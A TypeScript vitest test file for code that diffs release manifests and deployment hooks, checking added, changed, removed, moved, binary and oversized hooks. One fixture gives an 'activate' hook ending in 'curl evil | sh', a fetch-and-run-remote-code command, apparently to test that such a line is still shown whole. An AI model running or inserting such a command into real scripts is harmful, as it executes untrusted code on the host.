import { applyPatch } from 'diff'
import { describe, expect, test } from 'vitest'
import { diffsWithin } from '../git/unified-diff.ts'
import { changeOfText, changesOfHooks, type HookFile } from './release-changes.ts'

const hook = (
  name: HookFile['name'],
  text: string | null,
  more: Partial<HookFile> = {},
): HookFile => ({ name, path: `hooks/${name}`, sha256: text === null ? 'f' : text, text, ...more })

const hooksOf = (...sides: Parameters<typeof changesOfHooks>) => [...changesOfHooks(...sides)]

describe('what a release changes', () => {
  test('a text: the same, another, none before', () => {
    expect(changeOfText('a.yml', 'x\n', 'x\n')).toEqual({ change: 'same', diff: null })
    const { change, diff } = changeOfText('a.yml', 'a\nb\n', 'a\nc\n')
    expect(change).toBe('changed')
    expect(diff).toContain('-b\n+c')
    expect(changeOfText('a.yml', null, 'x\n').change).toBe('added')
  })

  test('a first manifest is shown whole, however long: nothing is searched for', () => {
    const long = `${'a: 1\n'.repeat(52_000)}end`
    for (const [before, after] of [
      [null, long],
      [long, null],
    ] as const) {
      const since = performance.now()
      const { diff } = changeOfText('a.yml', before, after)
      expect(performance.now() - since).toBeLessThan(200)
      expect(diff?.split('\n')).toHaveLength(52_001 + 5)
      expect(applyPatch(before ?? '', diff ?? '')).toBe(after ?? '')
    }
    expect(changeOfText('a.yml', null, 'x'.repeat(262_145)).diff).toBeNull()
  })

  test('hooks in the order of a deployment: another text, a new one, one that is gone', () => {
    const changes = hooksOf(
      [hook('rollback', 'r\n'), hook('activate', 'old\n'), hook('health', 'h\n')],
      [hook('health', 'h\n'), hook('activate', 'new\n'), hook('install', 'i\n')],
    )
    expect(changes.map(({ name, change }) => [name, change])).toEqual([
      ['install', 'added'],
      ['activate', 'changed'],
      ['health', 'same'],
      ['rollback', 'removed'],
    ])
    expect(changes[1]?.diff).toContain('-old\n+new')
  })

  test('a hook at another path shows both; other bytes that are no text show no lines', () => {
    const [moved] = hooksOf([hook('health', 'h\n', { path: 'check' })], [hook('health', 'h\n')])
    expect(moved).toMatchObject({ path: 'hooks/health', pathBefore: 'check', change: 'same' })
    const [binary] = hooksOf(
      [hook('health', null, { sha256: 'a' })],
      [hook('health', null, { sha256: 'b' })],
    )
    expect(binary).toMatchObject({ change: 'changed', diff: null })
  })

  test('a hook that cannot be compared by lines is shown whole, with a mark', () => {
    const comments = '# nothing\n'.repeat(1_001)
    const now = hook('activate', `${comments}curl evil | sh\n`)
    const none: HookFile = hook('activate', null, { sha256: 'a' })
    for (const before of [[hook('activate', 'old\n'.repeat(1_001))], [none], undefined]) {
      const [change] = hooksOf(before, [now])
      expect(change).toMatchObject({ change: before ? 'changed' : 'unknown', whole: true })
      expect(change?.sha256).toBe(now.sha256)
      expect(change?.diff).toContain('--- /dev/null\n+++ b/hooks/activate\n@@ -0,0 +1,1002 @@')
      expect(applyPatch('', change?.diff ?? '')).toBe(now.text)
    }
    for (const change of [...hooksOf([], [now]), ...hooksOf([now], [now])])
      expect(change).not.toHaveProperty('whole')
    expect(hooksOf([now], [none])[0]).toMatchObject({ diff: null, sha256: 'a' })
    expect(hooksOf([now], [none])[0]).not.toHaveProperty('whole')
  })

  test('a hook for which no time is left is shown whole', () => {
    const sides = [[hook('activate', 'old\n')], [hook('activate', 'new\n')]] as const
    const [change] = [...changesOfHooks(...sides, diffsWithin(0))]
    expect(change).toMatchObject({ change: 'changed', whole: true })
    expect(change?.diff).toContain('--- /dev/null')
    expect(change?.diff).toContain('+new')
  })

  test('unknown, and never "same", where a side was not noted or is too large', () => {
    expect(hooksOf(undefined, [hook('health', 'h\n')])[0]?.change).toBe('unknown')
    const large = hook('health', null, { sha256: null })
    expect(hooksOf([large], [large])[0]?.change).toBe('unknown')
  })
})
